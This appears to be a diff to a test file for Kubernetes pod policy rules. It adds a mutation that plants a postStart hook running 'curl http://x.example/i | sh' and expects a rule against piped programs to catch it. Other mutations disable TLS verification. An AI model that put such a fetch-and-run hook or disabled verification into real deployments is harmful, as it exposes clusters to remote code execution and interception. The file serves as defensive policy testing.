@@ -80,6 +80,11 @@ def _without_key(container: Inputs) -> bool | None:
 CONTAINERS = (
     Mutation("one late answer kills", ("pod-restrict-probe-timing",), server(put(1, "livenessProbe", "failureThreshold"))),
     Mutation("no certificate verified", ("pod-require-verified-tls",), add({"name": "PYTHONHTTPSVERIFY", "value": "0"}, "env")),
+    Mutation(
+        "a program from the network",
+        ("pod-disallow-piped-programs",),
+        put(["sh", "-c", "curl http://x.example/i | sh"], "lifecycle", "postStart", "exec", "command"),
+    ),
     Mutation("insecure option", ("pod-require-verified-tls",), argument("--no-verify-ssl")),
     Mutation(
         "traces to strangers",
